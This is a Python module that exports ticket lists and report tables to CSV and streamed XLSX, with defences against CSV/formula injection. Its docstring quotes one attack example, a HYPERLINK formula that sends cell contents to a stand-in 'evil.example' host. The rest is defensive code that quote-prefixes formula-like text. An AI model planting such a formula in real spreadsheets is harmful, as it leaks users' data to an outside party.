"""Tables and ticket lists as files people open in Excel or LibreOffice.

CSV is UTF-8 with a byte-order mark: without it Excel reads the file as the local ANSI code page and
Vietnamese turns into mojibake. Both formats are produced in pieces as the rows come from the database
(`iterator()`), so a ticket list of any length is sent while it is read, in constant memory (issue 27,
docs/benchmarks.md): XLSX by `xlsx_stream`, which writes the workbook's few XML parts itself into a
ZIP archive written forwards only (`zipfile` on an unseekable sink: each member's sizes follow it in
a data descriptor) — openpyxl, even in write-only mode, assembles the archive only once every row is
written, so the first byte would wait for the last row and the whole file would sit in memory.

User text is written as text, never as a formula (issue 20, class 5): a ticket titled
`=HYPERLINK("http://evil.example/?d="&A2,"…")` became a live formula in a manager's spreadsheet. In CSV
every field is quoted and a text that a spreadsheet would read as a formula gets the OWASP
CSV-injection prefix, a single quote (`formula_safe`); in XLSX every text is a string cell, never a
formula cell, and one that starts like a formula also carries Excel's quote prefix, so editing the
cell later does not turn it into one. Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import Any
from xml.sax.saxutils import escape

from django.utils import timezone
from django.utils.translation import gettext as _

from reports.selectors import Table
from requests.models import Category, Priority, Status, Ticket

BOM = "\ufeff"
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


def _cell(value: Any) -> Any:
    """Values as spreadsheets want them: local naive datetimes (Excel has no time zones), text for
    lazy translations, empty for None."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, (int, float, str)):
        return value
    return str(value)


# What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection"): =, +, -, @, tab and
# carriage return first; line feed and the full-width forms, which some spreadsheets fold into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def formula_safe(text: str) -> str:
    """Text a spreadsheet shows as written: the OWASP prefix (a single quote) before a formula start."""
    return "'" + text if starts_like_formula(text) else text


def _csv_cell(value: Any) -> Any:
    value = _cell(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, str):
        return formula_safe(value)
    return value


def _csv_writer(out: io.StringIO):
    # Every field quoted: a separator inside a text (a comma, or the semicolon of a locale that
    # splits on it) can then never start a new cell whose first character is a formula's.
    return csv.writer(out, quoting=csv.QUOTE_ALL)


def tables_csv(tables: Iterable[Table]) -> bytes:
    """Every table one after the other: its title, its header, its rows, then an empty line."""
    out = io.StringIO()
    out.write(BOM)
    writer = _csv_writer(out)
    for table in tables:
        writer.writerow([_csv_cell(table.title)])
        writer.writerow([_csv_cell(column) for column in table.columns])
        for row in table.rows:
            writer.writerow([_csv_cell(v) for v in row])
        writer.writerow([])
    return out.getvalue().encode("utf-8")


def _sheet_title(title: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ and unique in the workbook.
    clean = "".join("-" if c in "[]:*?/\\" else c for c in title)[:31] or "Sheet"
    name, n = clean, 2
    while name in used:
        suffix = f" ({n})"
        name, n = clean[: 31 - len(suffix)] + suffix, n + 1
    used.add(name)
    return name


def tables_xlsx(tables: Iterable[Table]) -> bytes:
    """One sheet per table, header in bold (small: the dashboard's tables, joined in memory)."""
    used: set[str] = set()
    return b"".join(xlsx_stream(
        (_sheet_title(table.title, used), [str(column) for column in table.columns], table.rows)
        for table in tables))


# --- XLSX, written forwards -------------------------------------------------------------------------------

# What XML 1.0 cannot hold (older rows may have it): dropped, as openpyxl's ILLEGAL_CHARACTERS_RE does.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_EXCEL_EPOCH = datetime(1899, 12, 30)
# Cell styles (xl/styles.xml's cellXfs, in this order): plain, bold header, date and time, quoted text.
_BOLD, _DATETIME, _QUOTED = 1, 2, 3
_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_STYLES = (
    f'{_XML_HEAD}<styleSheet xmlns="{_MAIN_NS}">'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '</fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="22" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
)


class _Sink(io.RawIOBase):
    """An unseekable file that keeps what was written until it is taken: `zipfile` then writes each
    member forwards (sizes in a data descriptor after its data) and never goes back."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.parts.append(bytes(data))
        return len(data)

    def take(self) -> bytes:
        data = b"".join(self.parts)
        self.parts.clear()
        return data


def _xlsx_cell(value: Any, style: int = 0) -> str:
    """One `<c>`: a number, a date (Excel's serial day number, in local time), or — for anything else
    — an inline string, never a formula; text that starts like one is quote-prefixed."""
    value = _cell(value)
    if isinstance(value, bool):
        value = str(value)
    if isinstance(value, (int, float)):
        return f'<c s="{style}"><v>{value!r}</v></c>' if style else f"<c><v>{value!r}</v></c>"
    if isinstance(value, datetime):
        days = (value - _EXCEL_EPOCH).total_seconds() / 86400
        return f'<c s="{_DATETIME}"><v>{days!r}</v></c>'
    text = _XML_ILLEGAL.sub("", str(value))
    if not style and starts_like_formula(text):
        style = _QUOTED
    attrs = f' s="{style}"' if style else ""
    return f'<c t="inlineStr"{attrs}><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def xlsx_stream(sheets: Iterable[tuple[str, list[str], Iterable[Iterable[Any]]]],
                rows_per_piece: int = 500) -> Iterator[bytes]:
    """An XLSX workbook in pieces: one sheet per (title, header, rows), the header in bold, a piece
    every `rows_per_piece` rows. Memory stays that of one piece and the deflater's window, whatever
    the number of rows; openpyxl reads the result (tests/reports/test_exports_stream.py)."""
    sink = _Sink()
    book = zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED)
    titles: list[str] = []
    for title, header, rows in sheets:
        titles.append(title)
        with book.open(f"xl/worksheets/sheet{len(titles)}.xml", "w") as part:
            part.write(f'{_XML_HEAD}<worksheet xmlns="{_MAIN_NS}"><sheetData><row>'.encode())
            part.write("".join(_xlsx_cell(h, _BOLD) for h in header).encode() + b"</row>")
            for i, row in enumerate(rows):
                part.write(("<row>" + "".join(_xlsx_cell(v) for v in row) + "</row>").encode())
                if i % rows_per_piece == rows_per_piece - 1:
                    yield sink.take()
            part.write(b"</sheetData></worksheet>")
        yield sink.take()
    sheet_list = "".join(f'<sheet name="{escape(t, {chr(34): "&quot;"})}" sheetId="{n}" r:id="rId{n}"/>'
                         for n, t in enumerate(titles, 1))
    book.writestr("xl/workbook.xml", f'{_XML_HEAD}<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}">'
                                     f"<sheets>{sheet_list}</sheets></workbook>")
    sheet_rels = "".join(f'<Relationship Id="rId{n}" Target="worksheets/sheet{n}.xml" '
                         f'Type="{_REL_NS}/worksheet"/>' for n in range(1, len(titles) + 1))
    book.writestr("xl/_rels/workbook.xml.rels",
                  f'{_XML_HEAD}<Relationships xmlns="{_PKG_REL_NS}">{sheet_rels}'
                  f'<Relationship Id="rId{len(titles) + 1}" Target="styles.xml" Type="{_REL_NS}/styles"/>'
                  "</Relationships>")
    book.writestr("xl/styles.xml", _STYLES)
    book.writestr("_rels/.rels", f'{_XML_HEAD}<Relationships xmlns="{_PKG_REL_NS}"><Relationship Id="rId1" '
                                 f'Target="xl/workbook.xml" Type="{_REL_NS}/officeDocument"/></Relationships>')
    sheet_types = "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
                          'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                          for n in range(1, len(titles) + 1))
    book.writestr("[Content_Types].xml",
                  f'{_XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                  '<Default Extension="xml" ContentType="application/xml"/>'
                  '<Override PartName="/xl/workbook.xml" ContentType="application/'
                  'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                  '<Override PartName="/xl/styles.xml" ContentType="application/'
                  f'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>{sheet_types}</Types>')
    book.close()
    yield sink.take()


# --- ticket lists --------------------------------------------------------------------------------------


def ticket_columns() -> list[str]:
    return [_("Reference"), _("Title"), _("Category"), _("Priority"), _("Status"), _("Requesting centre"),
            _("Target centre"), _("Requested by"), _("Assignee"), _("Created"), _("Due"), _("Overdue"),
            _("Accepted"), _("Resolved"), _("Closed"), _("Link")]


# What an exported row reads of a ticket's relations (the list's TICKET_RELATED has more).
EXPORT_RELATED = ("requesting_centre", "target_centre", "requested_by", "assignee")


def ticket_rows(qs, base_url: str = "") -> Iterator[list[Any]]:
    """One row per ticket of `qs` (already narrowed to what the viewer may see, with EXPORT_RELATED
    joined), streamed. The choices' labels are translated once per export, not per cell: Django's
    `get_FOO_display` hashes the lazy labels of every choice at each call, which was half of an
    export's CPU (issue 27)."""
    yes, no = _("yes"), _("no")
    category, priority, status = ({value: str(label) for value, label in field.choices}
                                  for field in (Category, Priority, Status))
    ticket: Ticket
    for ticket in qs.iterator(chunk_size=2000):
        yield [
            ticket.reference,
            ticket.title,
            category.get(ticket.category, ticket.category),
            priority.get(ticket.priority, ticket.priority),
            status.get(ticket.status, ticket.status),
            ticket.requesting_centre.code,
            ticket.target_centre.code if ticket.target_centre is not None else "",
            ticket.requested_by.get_display_name(),
            ticket.assignee.get_display_name() if ticket.assignee is not None else "",
            ticket.created_at,
            ticket.due_at,
            yes if ticket.is_overdue else no,
            ticket.accepted_at,
            ticket.resolved_at,
            ticket.closed_at,
            base_url + ticket.get_absolute_url(),
        ]


def tickets_csv(qs, base_url: str = "") -> Iterator[str]:
    """The CSV text in pieces (for a streaming response)."""
    out = io.StringIO()
    writer = _csv_writer(out)
    out.write(BOM)
    writer.writerow([_csv_cell(column) for column in ticket_columns()])
    for i, row in enumerate(ticket_rows(qs, base_url)):
        writer.writerow([_csv_cell(v) for v in row])
        if i % 500 == 499:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
    yield out.getvalue()


def tickets_xlsx(qs, base_url: str = "") -> Iterator[bytes]:
    """The XLSX workbook in pieces (for a streaming response), one sheet."""
    title = _sheet_title(_("Support requests"), set())
    return xlsx_stream([(title, ticket_columns(), ticket_rows(qs, base_url))])
